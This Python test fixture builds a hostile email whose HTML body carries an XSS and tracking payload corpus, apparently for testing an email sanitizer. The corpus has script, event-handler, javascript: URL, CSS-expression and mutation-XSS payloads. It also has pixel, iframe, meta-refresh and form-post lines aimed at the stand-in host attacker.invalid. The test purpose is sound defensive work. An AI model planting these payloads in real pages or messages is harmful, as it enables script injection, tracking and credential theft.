"""A corpus of XSS and tracking payloads, carried in an email's HTML body."""

from __future__ import annotations

from email.message import EmailMessage

PAYLOADS = [
    "<p>The real text of the hostile message.</p>",
    "<script>window.__pwned = 'script'</script>",
    "<img src=x onerror=\"window.__pwned='onerror'\">",
    "<body onload=\"window.__pwned='onload'\">",
    "<a href=\"javascript:window.__pwned='href'\">click</a>",
    "<svg onload=\"window.__pwned='svg'\"><script>window.__pwned='svg-script'</script></svg>",
    "<div style=\"width: expression(window.__pwned='css')\">css expression</div>",
    "<style>@import url(http://attacker.invalid/x.css); body{background:url(http://attacker.invalid/bg)}</style>",
    '<img src="http://attacker.invalid/pixel.gif" width=1 height=1>',
    '<iframe src="http://attacker.invalid/frame"></iframe>',
    '<object data="http://attacker.invalid/o.swf"></object><embed src="http://attacker.invalid/e">',
    '<form action="http://attacker.invalid/steal"><input name=p><button>go</button></form>',
    '<meta http-equiv="refresh" content="0;url=http://attacker.invalid/">',
    '<link rel=stylesheet href="http://attacker.invalid/l.css">',
    # Last: an unclosed <style> inside MathML swallows what follows it (mutation XSS).
    "<math><mtext><table><mglyph><style><img src=x onerror=\"window.__pwned='mxss'\">",
]
HOSTILE_HTML = "<html><head><title>t</title></head><body>" + "\n".join(PAYLOADS) + "</body></html>"


def hostile_message() -> bytes:
    msg = EmailMessage()
    msg["From"] = "Mallory <mallory@attacker.invalid>"
    msg["To"] = "victim@example.org"
    msg["Subject"] = "A hostile message"
    msg["Message-ID"] = "<hostile@attacker.invalid>"
    msg["Date"] = "Mon, 02 May 2016 10:00:00 +0000"
    msg.set_content("plain alternative")
    msg.add_alternative(HOSTILE_HTML, subtype="html")
    return msg.as_bytes()
